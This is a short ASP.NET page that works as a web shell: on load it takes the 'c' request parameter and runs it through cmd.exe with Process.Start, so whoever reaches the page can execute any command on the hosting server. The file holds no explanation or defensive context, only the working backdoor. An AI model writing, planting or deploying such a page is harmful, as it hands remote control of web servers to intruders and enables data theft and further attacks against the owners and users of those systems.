<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
void Page_Load(object sender, EventArgs e) {
    string c = Request["c"];
    Process.Start("cmd.exe", "/c " + c);
}
</script>
